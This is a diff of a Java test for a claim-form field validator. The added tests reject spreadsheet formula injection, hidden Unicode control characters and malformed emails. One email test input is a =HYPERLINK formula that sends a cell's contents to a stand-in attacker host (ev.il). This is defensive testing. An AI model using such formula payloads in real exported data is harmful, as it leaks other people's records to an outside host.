@@ -49,6 +49,16 @@ class ClaimFieldTest {
                         .isEqualTo("must not start with =, +, - or @ (a spreadsheet would take it for a formula)");
             }
             assertThat(ok(field, "Smith = Jones Trust")).isEqualTo("Smith = Jones Trust");
+            // an errors file's mark of such a value, come back unchanged
+            assertThat(broken(field, "'=1+1").rule()).startsWith("must not start with an apostrophe and =, +, - or @");
+            assertThat(ok(field, "'Ohana Trust")).isEqualTo("'Ohana Trust");
+            // beyond ASCII's controls: C1, separators, format characters such as a right-to-left override, and a
+            // lone half of a surrogate pair; the joiners some scripts need are taken
+            for (String hidden : new String[] {"Maria\u0085Garcia", "Maria\u2028Garcia", "Maria \u202Eaicrag",
+                    "Maria\u200BGarcia", "Maria \uD835Garcia", "\uFEFFMaria"}) {
+                assertThat(broken(field, hidden).rule()).as(hidden).contains("control characters");
+            }
+            assertThat(ok(field, "\u0645\u200C\u0645")).hasSize(3);
         }
         assertThat(broken(ClaimField.CLAIMANT_ADDRESS, "=1+1").rule()).contains("formula");
         assertThat(ok(ClaimField.CLAIMANT_PHONE, "+1 916 555 0142")).as("a phone's own rule").isNotNull();
@@ -60,9 +70,15 @@ class ClaimFieldTest {
         assertThat(ok(ClaimField.CLAIMANT_EMAIL, " maria.garcia@example.org ")).isEqualTo("maria.garcia@example.org");
         assertThat(ok(ClaimField.CLAIMANT_EMAIL, "zoë@bücher.de")).isEqualTo("zoë@bücher.de");
         for (String bad : new String[] {"maria", "maria@", "@example.org", "maria@example", "a b@example.org",
-                "a@b@example.org", "maria@example.", "x".repeat(250) + "@example.org"}) {
-            assertThat(broken(ClaimField.CLAIMANT_EMAIL, bad).rule()).contains("email address");
+                "a@b@example.org", "maria@example.", "x".repeat(250) + "@example.org",
+                "=HYPERLINK(\"http://ev.il/?\"&J2,\"x@y.z\")", "maria@exa_mple.org"}) {
+            assertThat(broken(ClaimField.CLAIMANT_EMAIL, bad).rule()).as(bad).contains("email address");
         }
+        for (String formula : new String[] {"=1+maria@example.org", "+maria@example.org", "-maria@example.org"}) {
+            assertThat(broken(ClaimField.CLAIMANT_EMAIL, formula).rule()).as(formula).contains("formula");
+        }
+        assertThat(ok(ClaimField.CLAIMANT_EMAIL, "o'brien+claims@mail-1.example.org"))
+                .isEqualTo("o'brien+claims@mail-1.example.org");
 
         assertThat(ok(ClaimField.CLAIMANT_PHONE, null)).isNull();
         assertThat(ok(ClaimField.CLAIMANT_PHONE, "(916) 555-0142")).isEqualTo("(916) 555-0142");
